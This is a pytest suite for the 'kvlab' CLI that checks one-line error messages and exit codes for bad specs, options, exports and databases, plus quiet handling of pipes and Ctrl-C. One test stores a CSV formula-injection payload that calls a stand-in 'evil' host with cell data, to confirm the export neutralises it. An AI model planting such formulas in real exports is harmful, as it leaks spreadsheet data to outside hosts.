"""Issue 9: every bad input to the CLI is exit status 2 and one line naming the option, file or field
and what is allowed; a bug is exit 1 with one line that says where its traceback was logged; a
closed pipe and Ctrl-C end quietly.  Never a Python traceback.

Each case runs the real ``kvlab`` command (``python -m kvlab.cli``) as a subprocess, on a SQLite
file and a ``KVLAB_HOME`` in a temporary directory.  None loads a model: every one must fail
before that (a few seconds each at most).
"""

from __future__ import annotations

import csv
import io
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from kvlab.core.experiment_spec import parse_spec
from kvlab.core.results import ItemResult
from kvlab.experiments.provenance import environment
from kvlab.store import Store
from tests.waiting import SAFETY_S

NATIVE_SPEC = '[[tasks]]\nname = "passkey"\ncontext_lengths = [256]\n[[configs]]\nname = "baseline"\n'
SPEC = {"name": "adversarial", "tasks": [{"name": "passkey", "context_lengths": [256]}],
        "configs": [{"name": "baseline"}]}


class Kvlab:
    """Runs ``kvlab ARGS`` in ``home`` with its own database and ``KVLAB_HOME`` (no ``KVLAB_DEBUG``)."""

    def __init__(self, home: Path) -> None:
        self.home = home
        self.db = home / "kvlab.sqlite"
        self.env = {k: v for k, v in os.environ.items() if k != "KVLAB_DEBUG"}
        self.env |= {"KVLAB_DATABASE_URL": f"sqlite:///{self.db}", "KVLAB_HOME": str(home / "kvlab-home")}

    @property
    def log(self) -> Path:
        return self.home / "kvlab-home" / "logs" / "kvlab-cli.log"

    def command(self, *args: str) -> list[str]:
        return [sys.executable, "-m", "kvlab.cli", *args]

    def __call__(self, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(self.command(*args), cwd=self.home, env=self.env | env, capture_output=True,
                              text=True, timeout=SAFETY_S)

    def user_error(self, *args: str, says: tuple[str, ...]) -> str:
        """Run a command that must be refused: exit 2, one line ``error: ...`` with each of ``says``."""
        result = self(*args)
        output = result.stdout + result.stderr
        assert "Traceback" not in output, output
        assert result.returncode == 2, output
        lines = result.stderr.splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
        for fragment in says:
            assert fragment in lines[0], lines[0]
        return lines[0]


@pytest.fixture
def kvlab(tmp_path) -> Kvlab:
    return Kvlab(tmp_path)


@pytest.fixture
def stored(kvlab) -> int:
    """An experiment in the database (queued: no worker)."""
    with Store(f"sqlite:///{kvlab.db}") as store:
        return store.create_experiment(parse_spec(SPEC), environment())


def write(path: Path, data: str | bytes) -> Path:
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


# -- spec files ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, content, says", [
    ("missing.toml", None, ("missing.toml: spec file not found",)),
    ("a-directory", "dir", ("a-directory: is a directory",)),
    ("latin1.toml", b'name = "caf\xe9"\n', ("latin1.toml: not UTF-8", "byte 0xe9 at offset 11")),
    ("syntax.toml", 'name = "x"\nseed = = 3\n', ("syntax.toml: not valid TOML", "line 2, column 8")),
    ("deep.toml", "a = " + "[" * 100_000, ("deep.toml: not valid TOML", "nested too deeply")),
    ("huge.toml", "# padding\n" * 200_000, ("huge.toml: 2,000,000 bytes", "at most 1,048,576")),
    ("nan-ratio.toml", NATIVE_SPEC + '[[configs]]\nevict = "snapkv"\nratio = nan\n',
     ("nan-ratio.toml: configs.1.ratio",)),
    ("inf-timeout.toml", NATIVE_SPEC + "[backend]\nrequest_timeout_s = inf\n",
     ("inf-timeout.toml: backend.request_timeout_s", "finite")),
    ("bad-quant.toml", NATIVE_SPEC + '[[configs]]\nquant = "int3"\n', ("configs.1.quant", "'int8'")),
])
def test_bad_spec_files(kvlab, name, content, says):
    path = kvlab.home / name
    if content == "dir":
        path.mkdir()
    elif content is not None:
        write(path, content)
    kvlab.user_error("run", name, says=says)


def test_a_long_message_is_cut_and_logged_whole(kvlab):
    """Eight bad configs: one line, cut, naming the log that holds every problem."""
    write(kvlab.home / "many.toml", NATIVE_SPEC + "".join(f'[[configs]]\nquant = "int{i}"\n' for i in range(10, 18)))
    line = kvlab.user_error("run", "many.toml", says=("many.toml: configs.1.quant: Input should be",))
    assert line.endswith(f"... (the whole message is in {kvlab.log})")
    assert "configs.8.quant: Input should be" in kvlab.log.read_text()


def test_a_device_is_not_read_as_a_spec(kvlab):
    """/dev/zero never ends: it must be refused, not read."""
    kvlab.user_error("run", "/dev/zero", says=("/dev/zero: not a regular file",))


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads any file")
def test_unreadable_spec(kvlab):
    path = write(kvlab.home / "secret.toml", NATIVE_SPEC)
    path.chmod(0)
    kvlab.user_error("run", str(path), says=("secret.toml: not readable", "permission denied"))


@pytest.mark.parametrize("kv_cache, says", [
    ('bits = "four"', ('[kv_cache] bits = \'four\'', "16, 8, 4, 2")),
    ("bits = [4]", ("[kv_cache] bits = [4]", "16, 8, 4, 2")),
    ("bits = true", ("[kv_cache] bits = True", "16, 8, 4, 2")),
    ("eviction_threshold = nan", ("[kv_cache] eviction_threshold = nan", "between 0 and 1")),
    ("eviction_threshold = 1.5", ("[kv_cache] eviction_threshold = 1.5", "between 0 and 1")),
    ("compression_ratio = inf", ("[kv_cache] compression_ratio = inf", "a number > 1")),
    ("compression_ratio = -inf", ("[kv_cache] compression_ratio = -inf", "a number > 1")),
    ('compression_ratio = "4x"', ("[kv_cache] compression_ratio = '4x'", "a number > 1")),
    ("compression_ratio = 1e12", ("[kv_cache] compression_ratio = 1e+12", "at most 1,000")),
    ("sparse_top_k = 64", ("[kv_cache] sparse_top_k = 64", "fraction of tokens kept")),
    ('dtype = 4', ("[kv_cache] dtype = 4", "must be a string")),
    ('dtype = "int3"', ("[kv_cache] dtype = 'int3'", "int8")),
    ('eviction_method = "h3o"\nsparse_top_k = 0.5', ("[kv_cache] eviction_method = 'h3o'", "snapkv")),
    ('max_context_length = "long"', ("[kv_cache] max_context_length = 'long'", ">= 128")),
    ("max_context_length = 16", ("[kv_cache] max_context_length = 16", ">= 128")),
])
def test_bad_seed_style_values(kvlab, kv_cache, says):
    """Blog-shaped specs: each value of [kv_cache] named as the user wrote it."""
    write(kvlab.home / "seed.toml", f'[server]\nmodel_id = "m"\n[kv_cache]\n{kv_cache}\n')
    kvlab.user_error("run", "seed.toml", says=("seed.toml: ", *says))


@pytest.mark.parametrize("text, says", [
    ("kv_cache = 5\n", ("kv_cache = 5: must be a [kv_cache] table",)),
    ("server = 'x'\n[kv_cache]\nbits = 4\n", ("server = 'x': must be a [server] table",)),
    ("[server]\nbase_url = 8000\n", ("[server] base_url = 8000: must be a string",)),
    ("[server]\nbase_url = 'http://h/v1'\nport = 1\n", ("[server]: unknown keys ['port']",)),
])
def test_bad_seed_style_sections(kvlab, text, says):
    write(kvlab.home / "seed.toml", text)
    kvlab.user_error("run", "seed.toml", says=says)


# -- numeric options and ids --------------------------------------------------------------------------

@pytest.mark.parametrize("args, says", [
    (("ls", "--limit", "0"), ("argument --limit: must be a whole number >= 1, got '0'",)),
    (("ls", "--limit", "-5"), ("argument --limit: must be a whole number >= 1",)),
    (("ls", "--limit", "ten"), ("argument --limit: must be a whole number >= 1, got 'ten'",)),
    (("show", "1", "--events", "-1"), ("argument --events: must be a whole number >= 0",)),
    (("show", "0"), ("argument id: must be a whole number >= 1",)),
    (("show", "-3"), ("argument id: must be a whole number >= 1",)),
    (("show", "9" * 30), ("argument id: must be a whole number >= 1",)),  # beyond any database integer
    (("export", "x1"), ("argument id",)),
    (("run", "spec.toml", "--limit", "0"), ("argument --limit: must be a whole number >= 1",)),
    (("run", "spec.toml", "--workers", "-1"), ("argument --workers: must be a whole number in [0, 64]",)),
    (("run", "spec.toml", "--workers", "100000"), ("argument --workers: must be a whole number in [0, 64]",)),
    (("export", "1", "--format", "xlsx"), ("argument --format: invalid choice: 'xlsx'",)),
    (("ls", "--no-such-option"), ("unrecognized arguments: --no-such-option",)),
    (("frobnicate",), ("argument command: invalid choice: 'frobnicate'",)),
])
def test_bad_options(kvlab, args, says):
    kvlab.user_error(*args, says=("kvlab ", *says))


def test_zero_workers_and_zero_events_are_valid(kvlab, stored):
    write(kvlab.home / "spec.toml", NATIVE_SPEC)
    queued = kvlab("run", "spec.toml", "--background", "--workers", "0")
    assert queued.returncode == 0 and "0 local worker(s) started" in queued.stdout, queued.stderr
    shown = kvlab("show", str(stored), "--events", "0")
    assert shown.returncode == 0 and "recent events" not in shown.stdout, shown.stderr


# -- exports ------------------------------------------------------------------------------------------

def test_export_refusals(kvlab, stored):
    (kvlab.home / "a-file").write_text("x")
    (kvlab.home / "a-dir").mkdir()
    kvlab.user_error("export", str(stored + 41), "--out", "no/such/dir/x.json", says=(f"no experiment {stored + 41}",))
    kvlab.user_error("export", str(stored), "--out", "a-dir", says=("--out a-dir: is a directory",))
    kvlab.user_error("export", str(stored), "--out", "a-file/x.csv",
                     says=("--out a-file/x.csv: a-file is not a directory",))
    refused = kvlab.user_error("export", str(stored), "--out", "/proc/kvlab-export.csv", "--format", "csv",
                               says=("--out /proc/kvlab-export.csv: ",))
    assert "cannot write" in refused or "not writable" in refused
    kvlab.user_error("export", str(stored + 41), says=(f"no experiment {stored + 41}",))
    assert not (kvlab.home / "no").exists()  # a refused export creates no directory
    written = kvlab("export", str(stored), "--out", "a-dir/out.json")
    assert written.returncode == 0 and (kvlab.home / "a-dir" / "out.json").stat().st_size > 0, written.stderr
    created = kvlab("export", str(stored), "--out", "no/such/dir/x.json")  # its directory created (issue 47)
    assert created.returncode == 0 and (kvlab.home / "no/such/dir/x.json").stat().st_size > 0, created.stderr


def test_run_output_is_checked_before_the_run(kvlab):
    """A valid spec: only the --json path is wrong, and it is refused before any model loads."""
    write(kvlab.home / "spec.toml", NATIVE_SPEC)
    (kvlab.home / "a-dir").mkdir()
    (kvlab.home / "a-file").write_text("x")
    kvlab.user_error("run", "spec.toml", "--json", "a-dir", says=("--json a-dir: is a directory",))
    kvlab.user_error("run", "spec.toml", "--json", "a-file/sub/out.json",
                     says=("--json a-file/sub/out.json: cannot create the directory a-file/sub",))


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes anywhere")
def test_export_to_a_read_only_directory(kvlab, stored):
    locked = kvlab.home / "locked"
    locked.mkdir(mode=0o500)
    kvlab.user_error("export", str(stored), "--out", "locked/x.json", says=("--out locked/x.json: not writable",))


def _result(item_id: str, generated: str, answer: str, score: float, error: str | None) -> ItemResult:
    return ItemResult(
        item_id=item_id, task="passkey", config_name="baseline", config={"name": "baseline"}, seed=0,
        context_length=256, depth=-0.5, prompt_tokens=256, context_tokens=250, kept_tokens=250.0, kept_fraction=1.0,
        baseline_kv_bytes=1000, physical_kv_bytes=1000, analytic_kv_bytes=1000, compression_ratio=1.0,
        peak_kv_bytes=1000, generated=generated, answer=answer, output_tokens=3, ttft_s=0.25, tpot_s=None,
        prefill_s=0.125, compress_s=0.0, decode_s=0.125, peak_memory_bytes=None, score=score, error=error)


def test_csv_export_neutralises_formulas(kvlab, stored):
    """Text cells starting with = + - @ (or tab, CR) get a leading quote; numbers (-0.5) and text that
    is a plain number ("-42") stay as they are.  The expected rows are written out by hand."""
    with Store(f"sqlite:///{kvlab.db}") as store:
        [trial] = store.claim_trials("w1", max_trials=1)
        store.set_items_total(trial.id, 2)
        store.add_item_result(trial.id, _result("=1+2", '=HYPERLINK("http://evil/?"&A1,"x")', "-42", 0.0,
                                                "@SUM(A1)"))
        store.add_item_result(trial.id, _result("+cmd", "\tpadded", "-1+1", 1.0, "-dash"))
        store.finish_trial(trial.id, "done", worker_id="w1")
    result = kvlab("export", str(stored), "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert '"\'=HYPERLINK(""http://evil/?""&A1,""x"")"' in result.stdout  # the raw CSV text
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    columns = ("item_id", "generated", "answer", "error", "depth", "score", "kept_tokens")
    assert [{key: row[key] for key in columns} for row in rows] == [
        {"item_id": "'=1+2", "generated": '\'=HYPERLINK("http://evil/?"&A1,"x")', "answer": "-42",
         "error": "'@SUM(A1)", "depth": "-0.5", "score": "0.0", "kept_tokens": "250.0"},
        {"item_id": "'+cmd", "generated": "'\tpadded", "answer": "'-1+1", "error": "'-dash", "depth": "-0.5",
         "score": "1.0", "kept_tokens": "250.0"},
    ]


# -- databases ----------------------------------------------------------------------------------------

def test_database_of_a_newer_kvlab(kvlab, stored):
    with sqlite3.connect(kvlab.db) as connection:
        connection.execute("UPDATE alembic_version SET version_num = '9999'")
    for args in (("db", "upgrade"), ("db", "status"), ("ls",), ("show", str(stored)), ("export", str(stored))):
        kvlab.user_error(*args, says=(f"{kvlab.db}: made by a newer kvlab (revision 9999", "upgrade kvlab"))


def test_database_of_another_application_is_never_changed(kvlab):
    with sqlite3.connect(kvlab.db) as connection:
        connection.execute("CREATE TABLE invoices (id INTEGER PRIMARY KEY, total REAL)")
    for args in (("db", "upgrade"), ("db", "status"), ("ls",)):
        kvlab.user_error(*args, says=(f"{kvlab.db}: not a kvlab database", "tables invoices"))
    with sqlite3.connect(kvlab.db) as connection:
        tables = {row[0] for row in connection.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert tables == {"invoices"}


def test_a_file_that_is_not_sqlite(kvlab):
    write(kvlab.db, os.urandom(8192))
    for args in (("ls",), ("db", "upgrade")):
        kvlab.user_error(*args, says=(f"{kvlab.db} is not a SQLite database",))


def test_db_status_and_upgrade_of_a_kvlab_database(kvlab):
    assert "no kvlab schema: run `kvlab db upgrade`" in kvlab("db", "status").stdout
    upgraded = kvlab("db", "upgrade")
    assert upgraded.returncode == 0 and "schema empty -> " in upgraded.stdout, upgraded.stderr
    status = kvlab("db", "status")
    assert status.returncode == 0 and status.stdout.rstrip().endswith("(current)"), status.stderr


# -- internal errors, pipes, Ctrl-C -------------------------------------------------------------------

def test_internal_error_is_one_line_and_a_logged_traceback(kvlab, stored):
    """A stored value kvlab cannot read (damaged JSON) is a case no message anticipates: exit 1,
    one line naming the log, and the traceback in that log; ``KVLAB_DEBUG=1`` shows it instead."""
    with sqlite3.connect(kvlab.db) as connection:
        connection.execute("UPDATE experiments SET tags = '{not json'")
    result = kvlab("ls")
    assert result.returncode == 1 and "Traceback" not in result.stdout + result.stderr
    [line] = result.stderr.splitlines()
    assert line.startswith("error: internal error (JSONDecodeError: ") and line.endswith(f"); details in {kvlab.log}")
    log = kvlab.log.read_text()
    assert "kvlab ls (exit 1)" in log and "Traceback (most recent call last)" in log and "JSONDecodeError" in log
    debug = kvlab("ls", KVLAB_DEBUG="1")
    assert debug.returncode == 1 and "Traceback (most recent call last)" in debug.stderr


def test_closed_pipe_is_quiet(kvlab, stored):
    """The reader is gone before kvlab writes: status 141 (128 + SIGPIPE), nothing on stderr."""
    process = subprocess.Popen(kvlab.command("export", str(stored)), cwd=kvlab.home, env=kvlab.env,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout is not None and process.stderr is not None
    process.stdout.close()
    assert process.wait(timeout=SAFETY_S) == 141
    assert process.stderr.read() == b""


@pytest.mark.parametrize("command", ["show {id} | head -1", "export {id} | head -c 10"])
def test_pipe_into_head(kvlab, stored, command):
    """As typed in a shell: whether the pipe closes before kvlab's last write is a race, so either
    status is right; what matters is no traceback and no "Exception ignored"."""
    executable = f"{sys.executable} -m kvlab.cli "
    result = subprocess.run(["bash", "-o", "pipefail", "-c", executable + command.format(id=stored)], cwd=kvlab.home,
                            env=kvlab.env, capture_output=True, text=True, timeout=SAFETY_S)
    assert result.returncode in (0, 141) and result.stderr == "", result.stderr
    assert result.stdout


@pytest.fixture
def silent_server() -> Iterator[tuple[int, threading.Event]]:
    """A TCP server on 127.0.0.1 that accepts connections and never answers."""
    listener = socket.create_server(("127.0.0.1", 0))
    accepted = threading.Event()
    connections: list[socket.socket] = []

    def serve() -> None:
        while True:
            try:
                connections.append(listener.accept()[0])
            except OSError:
                return
            accepted.set()

    threading.Thread(target=serve, daemon=True).start()
    yield listener.getsockname()[1], accepted
    listener.close()
    for connection in connections:
        connection.close()


def test_ctrl_c_is_130_and_one_line(kvlab, silent_server):
    port, accepted = silent_server
    # the doctor's own timeout outlasts the wait: it is interrupted, never timed out, however slow the machine
    process = subprocess.Popen(kvlab.command("doctor", "--base-url", f"http://127.0.0.1:{port}/v1",
                                             "--timeout", str(10 * SAFETY_S)),
                               cwd=kvlab.home, env=kvlab.env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True)
    assert accepted.wait(SAFETY_S), "the doctor never connected"
    # Ctrl-C again, as a user would, if the first was lost (seen once, under load: the doctor waited on
    # with SIGINT handled, no signal pending and nothing printed; a second SIGINT ended it as it should)
    # (every 10 s, up to the safety bound: the lost one cost this test 180 s of a 60-minute suite)
    for _ in range(int(SAFETY_S // 10)):
        process.send_signal(signal.SIGINT)
        try:
            stdout, stderr = process.communicate(timeout=10)
            break
        except subprocess.TimeoutExpired:
            continue
    assert process.returncode == 130 and stderr == "interrupted\n" and "Traceback" not in stdout


@pytest.mark.parametrize("args, says", [
    (("--evict", "streaming_llm", "--decode-interval", "1", "--decode-target-tokens", "1"),
     ("KV-cache options: ", "decode.target_tokens = 1 keeps no more than the n_sink = 4")),
    (("--quant", "int4", "--value-quant", "int8", "--evict", "snapkv"), ("KV-cache options: ", "evict = 'snapkv'")),
    (("--evict", "tova", "--ratio", "0.5", "--heads", "adakv"), ("KV-cache options: ", "heads = 'adakv'")),
])
def test_serve_options_that_do_not_combine_are_one_line_before_torch(kvlab, args, says):
    """Refused as the options typed, not pydantic's text, and before the 8-10 s of importing torch: the
    command must not get as far as loading anything (``kvlab serve`` never reaches its model)."""
    line = kvlab.user_error("serve", "--model", "no-such-model", *args, says=says)
    assert "pydantic" not in line and "Value error" not in line and "validation error" not in line, line
